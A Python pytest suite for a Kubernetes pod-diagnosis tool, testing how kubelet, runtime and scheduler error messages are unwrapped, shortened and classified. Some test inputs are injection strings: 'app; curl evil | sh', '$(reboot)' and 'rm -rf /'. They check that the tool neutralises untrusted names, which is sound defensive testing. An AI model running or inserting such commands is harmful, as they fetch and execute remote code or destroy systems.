"""Messages of kubelets, runtimes, plug-ins and registries: unwrapped, bounded, understood.

The table `messages.yaml` holds messages as they are made; mutations of them must not change what
they are about, and no text at all may do harm.
"""

import re
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, Final

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from pod_diagnoser.diagnosis import messages
from pod_diagnoser.diagnosis.message_fields import readable
from pod_diagnoser.diagnosis.message_text import as_seen, fit, opened_text
from pod_diagnoser.diagnosis.messages import Message, proof_of, read_message, rebuild_problem
from pod_diagnoser.diagnosis.problem_rules import PROBLEM_RULES
from pod_diagnoser.diagnosis.problem_words import (
    PROBLEM_WORDS,
    SYMPTOM_PLACEHOLDERS,
    UNSPECIFIC,
    ProblemKind,
)
from pod_diagnoser.diagnosis.problems.images import PULL_PATTERNS
from pod_diagnoser.diagnosis.problems.rule import ProblemRule
from pod_diagnoser.diagnosis.problems.scheduling import SCHEDULING_RULES

LINE: Final = 138
"""Bytes of a line of an annotation that `kubectl describe pod` shows whole."""

ROWS: Final[list[dict[str, Any]]] = yaml.safe_load(
    Path(__file__).with_name("messages.yaml").read_text()
)
IDS: Final = [f"{number}-{row['by']}" for number, row in enumerate(ROWS)]
VOLUMES: Final = "/var/lib/kubelet/pods/5d2f1c44-9b1e-4a77-8c39-1f0e6b7a2d10/volumes"
KNOWN: Final = [row for row in ROWS if row["problem"]]

SYMPTOM: Final = {
    "subject": "init container istio-validation",
    "node": "node gke-pool-1-7d9c",
    "namespace": "payments",
    "image": "image ghcr.io/acme/checkout:1.4",
    "describe": "kubectl describe pod -n payments checkout-6c8f468b85-x2x7k",
    "describe_node": "kubectl describe node gke-pool-1-7d9c",
    "describe_claim": "kubectl describe pvc -n payments data-checkout-0",
}
GROUP: Final = re.compile(r"\[([^\[\]]*)\]")
PLACEHOLDER: Final = re.compile(r"\{(\w+)\}")


def kind_of(message: str) -> str | None:
    """Name the kind of problem of a message, or None."""
    problem = read_message(message).problem
    return problem.kind if problem else None


def text_of(message: str) -> str:
    """Unwrap a message."""
    return read_message(message).text


def fields_of(message: str) -> dict[str, str]:
    """Return what a message fills its placeholders with."""
    problem = read_message(message).problem
    return dict(problem.fields) if problem else {}


def fill(template: str, fields: Mapping[str, str]) -> str:
    """Fill a template as whoever shows a diagnosis does."""
    values = {**SYMPTOM, **fields}

    def filled(text: str) -> str:
        return PLACEHOLDER.sub(lambda match: values[match[1]], text)

    return filled(
        GROUP.sub(
            lambda match: (
                filled(match[1]) if set(PLACEHOLDER.findall(match[1])) <= set(values) else ""
            ),
            template,
        )
    )


class TestTableOfMessages:
    """What is said of real messages."""

    @pytest.mark.parametrize("row", ROWS, ids=IDS)
    def test_cause_and_kind_of_problem(self, row: dict[str, Any]) -> None:
        """Unwrapping leaves the part that says what is wrong; the message shows its problem."""
        message = read_message(row["message"])
        assert message.text == row["text"]
        assert (message.problem.kind if message.problem else None) == row["problem"]

    def test_a_line_shows_the_end_of_a_cause_and_what_proves_its_problem(self) -> None:
        """What is left out of a message is neither its last word nor what its problem rests on."""
        for row in KNOWN:
            message = read_message(row["message"])
            line = message.fit(LINE)
            assert len(line.encode()) <= LINE
            assert line.endswith(row["text"][-30:].rpartition(" ")[2])
            assert message.problem is not None
            for part in message.problem.proof:
                words = as_seen(part)
                assert words.search(line.lower()) or not words.search(row["text"].lower())

    def test_meaning_and_step_are_whole(self) -> None:
        """Meaning and next step fit on a line with all that the message gives."""
        for row in KNOWN:
            problem = read_message(row["message"]).problem
            assert problem is not None
            for template in (problem.meaning, problem.next_step):
                words = fill(template, problem.fields)
                assert len(words.encode()) <= LINE, words
                assert not re.search(r"[{}\[\]]|  ", words), words

    def test_the_table_is_large_and_holds_most_kinds(self) -> None:
        """Most kinds of problems have a real message."""
        missing = set(ProblemKind) - {row["problem"] for row in ROWS}
        assert len(ROWS) >= 150
        assert not missing


class TestNames:
    """Names that a message gives are kept, and only those fit for a command stand in a step."""

    @pytest.mark.parametrize(
        ("message", "names"),
        [
            (
                'MountVolume.SetUp failed for volume "tls" : secret "web-tls" not found',
                ('volume "tls"',),
            ),
            (
                'failed to setup network for sandbox "a": plugin type="calico" failed (add): no',
                ('network plug-in "calico"',),
            ),
            (
                f'error mounting "{VOLUMES}/x~csi/pvc-1/mount" to rootfs at "/data": refused',
                ('volume "pvc-1"', 'mount at "/data"'),
            ),
            ("context deadline exceeded", ()),
        ],
    )
    def test_names_of_layers_are_kept(self, message: str, names: tuple[str, ...]) -> None:
        """Volume, plug-in and mount path survive the layers that named them."""
        assert read_message(message).names == names

    @pytest.mark.parametrize(
        ("message", "placeholder", "value"),
        [
            ('configmap "app-settings" not found', "config_map", "app-settings"),
            ('secrets "web-tls" not found', "secret", "web-tls"),
            ("couldn't find key DB_HOST in ConfigMap shop/app", "key", '"DB_HOST"'),
            ("couldn't find key DB_HOST in ConfigMap shop/app", "object", "app"),
            ("PVC shop/data-0 has non-bound phase (Pending)", "claim", "data-0"),
            ('no runtime for "kata" is configured', "handler", "kata"),
            (
                "driver name a.b.io not found in the list of registered CSI drivers",
                "driver",
                "a.b.io",
            ),
            ('plugin type="calico" failed (add): no', "plugin", "calico"),
            ('plugin type="$(reboot)" failed (add): no', "plugin", '"$(reboot)"'),
            ('configmap "APP" not found', "config_map", None),
            ('no runtime for "$(reboot)" is configured', "handler", None),
            ('exec: "rm -rf /": permission denied', "executable", '"rm -rf /"'),
            ('exec: "a” next: “b": permission denied', "executable", "\"a' next: 'b\""),
            (
                'corresponding condition of pod readiness gate "a.example/b" does not exist.',
                "gate",
                '"a.example/b"',
            ),
        ],
    )
    def test_a_value_is_fit_for_a_sentence(
        self, message: str, placeholder: str, value: str | None
    ) -> None:
        """A value is a name of Kubernetes', or stands in quotation marks, or is left out."""
        problem = read_message(message).problem
        assert problem is not None
        assert problem.fields.get(placeholder) == value
        if value:
            assert value in fill(f"{problem.meaning} {problem.next_step}", problem.fields)

    def test_what_is_no_name_is_no_missing_object(self) -> None:
        """Kubernetes' names have no spaces."""
        assert kind_of('configmap "app; curl evil | sh" not found') is None

    @pytest.mark.parametrize(
        ("quantity", "text"),
        [
            ("48458972Ki", "46Gi"),
            ("2146223340", "2.0Gi"),
            ("1024Mi", "1Gi"),
            ("100Mi", "100Mi"),
            ("0", "0"),
            ("512", "512"),
            ("1500m", "1500m"),
        ],
    )
    def test_quantities_are_readable(self, quantity: str, text: str) -> None:
        """Bytes are told in the largest unit."""
        assert readable(quantity) == text

    def test_of_an_eviction_the_container_is_told_that_used_most(self) -> None:
        """The kubelet lists all containers beyond their requests, in the order of the spec."""
        fields = fields_of(
            "The node was low on resource: memory. Threshold quantity: 100Mi, available: 92160Ki. "
            "Container proxy was using 20480Ki, request is 0, has larger consumption of memory. "
            "Container app was using 3145728Ki, request is 1Gi, has larger consumption of memory. "
        )
        assert fields == {"available": "90Mi", "hungry": "app", "used": "3Gi", "requested": "1Gi"}

    def test_of_a_refusal_cpus_are_told_as_people_write_them(self) -> None:
        """The kubelet counts CPUs in thousandths and memory in bytes."""
        refusal = "Node didn't have enough resource: {}, requested: {}, used: {}, capacity: {}"
        assert fields_of(refusal.format("cpu", 4000, 1250, 3920)) == {
            "resource": "cpu",
            "requested": "4",
            "used": "1.25",
            "capacity": "3.92",
        }
        assert fields_of(refusal.format("memory", 2 << 30, 1 << 30, 2 << 30))["requested"] == "2Gi"
        assert fields_of(refusal.format("nvidia.com/gpu", 2, 1, 2))["requested"] == "2"

    def test_names_cannot_imitate_a_problem(self) -> None:
        """What a Pod's owner may name freely proves nothing."""
        for name in ("toomanyrequests", "x509", "manifest-unknown", "x/executable-file-not-found"):
            message = f'Failed to pull image "{name}:1": rpc error: code = Unknown desc = {name}'
            assert kind_of(message) is None

    def test_a_command_cannot_imitate_a_problem(self) -> None:
        """The command of a container stands between quotation marks, and is not looked at."""
        message = 'exec: "no space left on device": executable file not found in $PATH'
        assert kind_of(message) == ProblemKind.EXECUTABLE_NOT_FOUND


class TestUnwrap:
    """Layers of any depth, identifiers and repetitions."""

    def test_identifiers_are_short_but_names_of_volumes_are_whole(self) -> None:
        """64 digits become 12, a uid 8; the uid in `pvc-…` is needed for kubectl."""
        uid = "5d2f1c44-9b1e-4a77-8c39-1f0e6b7a2d10"
        text = f"open {'ab' * 32} of pod{uid} in pvc-{uid}: gone"
        assert text_of(text) == f"open {'ab' * 6} of pod5d2f1c44 in pvc-{uid}: gone"

    def test_a_clause_stands_once(self) -> None:
        """What several layers repeat is said once."""
        assert text_of("a thing broke: no luck: a thing broke: no luck") == (
            "a thing broke: no luck"
        )

    def test_only_the_last_error_of_a_log_is_taken(self) -> None:
        """Warnings before the error of a runtime are left out."""
        message = (
            'container create failed: time="T" level=warning msg="old cgroup"\n'
            'time="T" level=error msg="exec: \\"app\\": permission denied"\n'
        )
        assert text_of(message) == 'exec: "app": permission denied'

    @pytest.mark.parametrize(
        ("message", "text"),
        [
            ("", ""),
            (" : ", ""),
            ("Error: ", "Error"),
            ("runc create failed:", "runc create failed"),
        ],
    )
    def test_a_message_without_a_cause(self, message: str, text: str) -> None:
        """What consists of layers only is not lost."""
        assert text_of(message) == text

    @given(st.text())
    def test_any_text_is_unwrapped_to_one_line_and_only_once(self, text: str) -> None:
        """Total; its result is left as it is."""
        once = text_of(text)
        assert text_of(once) == once
        assert once.isprintable()

    @given(
        st.lists(st.sampled_from([piece for row in ROWS for piece in row["message"].split(" ")]))
    )
    def test_words_of_messages_in_any_order(self, words: list[str]) -> None:
        """Total and idempotent on what looks like messages."""
        once = text_of(" ".join(words))
        assert text_of(once) == once


class TestFit:
    """The middle is left out, never the end."""

    def test_the_middle_is_left_out(self) -> None:
        """Start and end stay, words whole."""
        text = 'volume "data": ' + "a long way round " * 20 + "permission denied"
        line = fit(text, 60)
        assert line.startswith('volume "data": ')
        assert line.endswith("permission denied")
        assert " … " in line

    def test_a_quoted_name_stays_whole(self) -> None:
        """No cut between quotation marks where there is room."""
        text = "x" * 200 + ' said "one two three" and ended'
        assert fit(text, 40).endswith('said "one two three" and ended')
        assert '"' not in fit(text, 20)

    def test_one_long_word_keeps_its_end(self) -> None:
        """A single long word is cut at its start."""
        assert fit("a" * 100 + "end", 10) == "…" + "aaaa" + "end"

    @example(text="0\r0", limit=2)
    @given(text=st.text(), limit=st.integers(min_value=0, max_value=300))
    def test_never_longer_than_its_limit(self, text: str, limit: int) -> None:
        """Bounded in bytes, and idempotent."""
        line = fit(text, limit)
        assert len(line.encode()) <= max(limit, 0)
        assert fit(line, limit) == line

    def test_a_flood_is_bounded_once(self) -> None:
        """A text that is too long to be read is idempotent too, whatever the limit."""
        once = fit("word " * 20_000, 1_000_000)
        assert len(once) <= 4096
        assert fit(once, 1_000_000) == once

    @given(st.text(min_size=1), st.integers(min_value=8, max_value=300))
    def test_the_end_is_kept(self, text: str, limit: int) -> None:
        """What stands after the ellipsis is the end of the text."""
        whole = fit(text, 1_000_000)
        line = fit(text, limit)
        if line != whole:
            tail = line.rpartition("…")[2].strip()
            assert tail
            assert whole.endswith(tail)

    @given(st.lists(st.text("abc", min_size=1, max_size=9), min_size=30))
    def test_words_are_kept_whole(self, words: list[str]) -> None:
        """Words that fit are not cut."""
        assert set(fit(" ".join(words), 50).split()) <= {*words, "…"}


class TestProblems:
    """The table of problems and what to do about them."""

    def test_every_kind_has_a_row_and_a_step(self) -> None:
        """No kind without proof, none without a next step."""
        assert {rule.kind for rule in (*PROBLEM_RULES, *SCHEDULING_RULES)} == set(ProblemKind)
        assert set(PROBLEM_WORDS) == set(ProblemKind)
        assert set(ProblemKind) >= UNSPECIFIC

    def test_patterns_are_written_as_messages_are_seen(self) -> None:
        """Lower-case, single spaces, a word to be looked up, a source; found by their own words."""
        for rule in (*PROBLEM_RULES, *SCHEDULING_RULES):
            assert rule.pattern == rule.pattern.lower()
            assert "  " not in rule.pattern
            assert re.search(r"[a-z0-9]", rule.pattern)
            assert rule.source
            text = f" {rule.pattern} "
            table = messages._PROBLEMS if rule in PROBLEM_RULES else messages._SCHEDULING
            found = table.rule_for(f"{PULL_PATTERNS[0]} {text}" if rule.pull_only else text)
            assert found is not None, rule.pattern

    def test_no_row_is_hidden_by_the_index(self) -> None:
        """Looking rows up by a word finds what going through all of them finds."""
        for row in KNOWN:
            text = seen(row["message"])
            assert messages._PROBLEMS.rule_for(text) == next(holding_rules(text), None), text

    def test_templates_are_well_formed(self) -> None:
        """What a message may lack is in a group, and a step is short without all of those."""
        for words in PROBLEM_WORDS.values():
            for template in (words.meaning, words.next_step):
                outside = set(PLACEHOLDER.findall(GROUP.sub("", template)))
                assert outside - SYMPTOM_PLACEHOLDERS <= ALWAYS_GIVEN
                shortest = fill(template, {"resource": "memory", "which": "12 of 345 nodes"})
                assert len(shortest.encode()) <= LINE, shortest
                assert not re.search(r"[{}\[\]]|  ", shortest), shortest

    def test_an_echo_is_not_specific(self) -> None:
        """A time-out of volumes gives way to the message that says why."""
        echo = read_message(
            "Unable to attach or mount volumes: unmounted volumes=[a]: timed out"
        ).problem
        cause = read_message(
            'MountVolume.SetUp failed for volume "a" : secret "b" not found'
        ).problem
        assert echo is not None
        assert cause is not None
        assert not echo.is_specific
        assert cause.is_specific


class TestStoredProblems:
    """What was stored of a problem on a Pod, where anyone who may write the Pod can make it up."""

    def test_a_problem_is_made_again(self) -> None:
        """With the words that it had."""
        for row in KNOWN:
            problem = read_message(row["message"]).problem
            assert problem is not None
            if "which" in problem.fields:
                continue  # of the Pod's status, which is not stored
            rebuilt = rebuild_problem(problem.kind, dict(problem.fields))
            assert rebuilt is not None
            assert rebuilt.fields == problem.fields

    def test_a_problem_without_what_its_words_need_is_none(self) -> None:
        """No sentence has a hole."""
        assert rebuild_problem(ProblemKind.NODE_OUT_OF_RESOURCE, {}) is None
        assert rebuild_problem(ProblemKind.SECRET_MISSING, {}) is not None

    @given(
        st.sampled_from(ProblemKind),
        st.dictionaries(st.sampled_from(["secret", "path", "volume", "resource"]), st.text()),
    )
    def test_what_somebody_made_up_cannot_speak_in_our_voice(
        self, kind: ProblemKind, fields: dict[str, str]
    ) -> None:
        """It is one word or stands in quotation marks, on one line."""
        problem = rebuild_problem(kind, fields)
        for value in problem.fields.values() if problem else ():
            assert value.isprintable()
            assert value.count('"') in (0, 2)
            assert re.fullmatch(r"[A-Za-z0-9._/:-]+", value) or value[0] == value[-1] == '"'


class TestScheduling:
    """Of the reasons for which the scheduler refused nodes, the one that can be changed."""

    @pytest.mark.parametrize(
        ("reasons", "kind", "fields"),
        [
            (
                (
                    "1 Insufficient cpu, 3 node(s) had untolerated taint "
                    "{node-role.kubernetes.io/control-plane: }, 1 node(s) didn't match Pod's node "
                    "affinity/selector"
                ),
                ProblemKind.NODES_LACK_RESOURCE,
                {"which": "1 of 5 nodes", "resource": "cpu"},
            ),
            (
                "2 Insufficient cpu, 3 Insufficient nvidia.com/gpu, 1 Too many pods",
                ProblemKind.NODES_LACK_RESOURCE,
                {"which": "3 of 5 nodes", "resource": "nvidia.com/gpu"},
            ),
            (
                "2 node(s) were unschedulable, 3 node(s) didn't match Pod's node affinity/selector",
                ProblemKind.NODES_CORDONED,
                {"which": "2 of 5 nodes"},
            ),
            (
                "4 node(s) had untolerated taint {dedicated: gpu}, 1 Too many pods",
                ProblemKind.NODES_TAINTED,
                {"which": "4 of 5 nodes", "taint": '"dedicated: gpu"'},
            ),
            (
                (
                    "5 node(s) had taint {node.kubernetes.io/disk-pressure: }, that the pod didn't "
                    "tolerate"
                ),
                ProblemKind.NODES_UNDER_PRESSURE,
                {"which": "all 5 nodes", "taint": '"node.kubernetes.io/disk-pressure"'},
            ),
            (
                "pod has unbound immediate PersistentVolumeClaims",
                ProblemKind.CLAIM_UNBOUND,
                {"which": "all 5 nodes"},
            ),
            (
                'persistentvolumeclaim "data-0" not found',
                ProblemKind.CLAIM_MISSING,
                {"which": "all 5 nodes", "claim": "data-0"},
            ),
            (
                (
                    "2 node(s) had volume node affinity conflict, 3 node(s) didn't match Pod's "
                    "node affinity/selector"
                ),
                ProblemKind.VOLUME_ELSEWHERE,
                {"which": "2 of 5 nodes"},
            ),
        ],
    )
    def test_the_reason_that_can_be_changed(
        self, reasons: str, kind: ProblemKind, fields: dict[str, str]
    ) -> None:
        """Nodes that are left out on purpose count only where there is no other reason."""
        preemption = ". preemption: 0/5 nodes are available: 5 Preemption is not helpful for …"
        for ending in ("", ".", preemption):
            message = f"0/5 nodes are available: {reasons}{ending}"
            assert kind_of(message) == kind
            assert fields_of(message) == fields
            assert "reemption" not in text_of(message)

    def test_a_line_shows_the_reason_that_is_told(self) -> None:
        """Whatever else the scheduler says, and wherever it stands."""
        message = (
            "0/9 nodes are available: 1 Insufficient cpu, 3 node(s) had untolerated taint "
            "{node-role.kubernetes.io/control-plane: }, 5 node(s) didn't match Pod's node "
            "affinity/selector. preemption: 0/9 nodes are available: 9 Preemption is not helpful"
        )
        text = text_of(message)
        proof = proof_of(ProblemKind.NODES_LACK_RESOURCE, text)
        assert proof == ("1 insufficient cpu",)
        assert fit(text, 60, proof) == "… 1 Insufficient cpu, … Pod's node affinity/selector"

    def test_a_node_cannot_be_imitated_by_a_taint(self) -> None:
        """What administrators may name freely is no reason of another kind."""
        message = "0/1 nodes are available: 1 node(s) had untolerated taint {a: insufficient-cpu}."
        assert kind_of(message) == ProblemKind.NODES_TAINTED


ALWAYS_GIVEN: Final = {"resource", "which"}
"""Placeholders outside of groups: no message of their kinds lacks them."""


def holding_rules(text: str) -> Iterator[ProblemRule]:
    """All rows of the table whose patterns a text holds, from the first on."""
    about_pull = any(pattern in text for pattern in PULL_PATTERNS)
    for rule in PROBLEM_RULES:
        if (about_pull or not rule.pull_only) and messages._occurs(
            tuple(rule.pattern.split(" … ")), text
        ):
            yield rule


OUTER_LAYERS: Final = (
    "Error: {}",
    "rpc error: code = Unknown desc = {}",
    "failed to create containerd task: failed to create shim task: {}",
    "OCI runtime create failed: {}: unknown",
    "runc create failed: {}",
    "unable to start container process: {}",
    "Error response from daemon: {}",
    "{}: unknown",
    "{}\r\n",
    "\n{}\n",
)


SPACES: Final = ("\r\n", "\n", "  ", "\t", " \u200b")

MAX_VALUE_BYTES: Final = 253


def seen(message: str) -> str:
    """A message as the patterns of the table see it."""
    return messages._without_names(opened_text(message))


class TestMutations:
    """The same problem in other clothes is the same problem."""

    @pytest.mark.parametrize("layer", OUTER_LAYERS)
    def test_one_more_layer(self, layer: str) -> None:
        """Each layer around each message changes neither its problem nor its cause."""
        for row in KNOWN:
            message = layer.replace("{}", row["message"])
            assert kind_of(message) == row["problem"]
            assert text_of(message) == row["text"]

    @pytest.mark.parametrize("space", SPACES)
    def test_each_other_white_space(self, space: str) -> None:
        """Line breaks of Windows, tabs and invisible characters mean nothing."""
        for row in KNOWN:
            message = row["message"].replace(" ", space)
            assert kind_of(message) == row["problem"]
            assert text_of(message) == row["text"]

    @given(st.sampled_from(KNOWN), st.lists(st.sampled_from(OUTER_LAYERS), max_size=5))
    def test_more_layers_in_any_order(self, row: dict[str, Any], layers: list[str]) -> None:
        """Layers around a message change neither its problem nor its cause."""
        message = row["message"]
        for layer in layers:
            message = layer.replace("{}", message)
        assert kind_of(message) == row["problem"]
        assert text_of(message) == row["text"]

    @given(
        st.sampled_from(KNOWN),
        st.text("0123456789abcdef", min_size=64, max_size=64),
        st.uuids(),
    )
    def test_other_identifiers(self, row: dict[str, Any], digits: str, uid: Any) -> None:
        """Identifiers mean nothing."""
        message = re.sub(r"\b[0-9a-f]{64}\b", digits, row["message"])
        message = re.sub(r"5d2f1c44-9b1e-4a77-8c39-1f0e6b7a2d10", str(uid), message)
        assert kind_of(message) == row["problem"]

    @given(
        st.sampled_from(KNOWN),
        st.lists(st.text("abcdefgh", min_size=1, max_size=9), min_size=40, max_size=400),
        st.integers(min_value=LINE, max_value=1024),
    )
    def test_a_long_message_is_shown_with_its_proof(
        self, row: dict[str, Any], noise: list[str], limit: int
    ) -> None:
        """However long a message is, a line shows the words by which its problem is known."""
        message = read_message(f"{row['message']} {' '.join(noise)}")
        assert kind_of(f"{row['message']} {' '.join(noise)}") == row["problem"]
        line = message.fit(limit).lower()
        assert len(line.encode()) <= limit
        for part in message.problem.proof if message.problem else ():
            words = as_seen(part)
            assert words.search(line) or not words.search(message.text.lower())

    def test_the_proof_of_a_shown_text(self) -> None:
        """It is found again in what was kept of a message, so that the same words stay."""
        for row in KNOWN:
            message = read_message(row["message"])
            assert message.problem is not None
            once = fit(message.text, LINE, proof_of(message.problem.kind, message.text))
            again = proof_of(message.problem.kind, once)
            assert fit(once, LINE, again) == once
            for part in again:
                assert as_seen(part).search(once.lower())

    def test_a_message_behind_a_flood(self) -> None:
        """Of a text of 12 KB start and end are read."""
        for row in KNOWN:
            if " nodes are available: " not in row["message"]:
                assert kind_of("flood " * 2_000 + row["message"]) == row["problem"]
            assert kind_of(row["message"] + " flood" * 2_000) == row["problem"]

    @given(st.data())
    def test_no_problem_without_its_words(self, data: st.DataObject) -> None:
        """Messages cut into words, mixed and put together again prove only what they say."""
        words = [
            word
            for row in data.draw(st.lists(st.sampled_from(ROWS), min_size=1, max_size=4))
            for word in row["message"].split(" ")
        ]
        start = data.draw(st.integers(min_value=0, max_value=len(words)))
        text = " ".join([*words[start:], *data.draw(st.permutations(words[:start]))])
        message = read_message(text)
        if message.problem is not None:
            parts = tuple(message.problem.proof)
            assert messages._occurs(parts, seen(text))

    @given(st.text(), st.sampled_from(ROWS), st.integers(min_value=0, max_value=400))
    def test_any_text_is_read(self, text: str, row: dict[str, Any], cut: int) -> None:
        """Total, whatever stands in a message; what it gives may stand in a sentence."""
        whole = row["message"]
        message = read_message(whole[:cut] + text + whole[cut:])
        assert isinstance(message, Message)
        for value in message.problem.fields.values() if message.problem else ():
            assert value.isprintable()
            assert len(value.encode()) <= MAX_VALUE_BYTES
            assert value.count('"') in (0, 2)
            assert not set(value[1:-1]) & set('"“”„‟″«»')
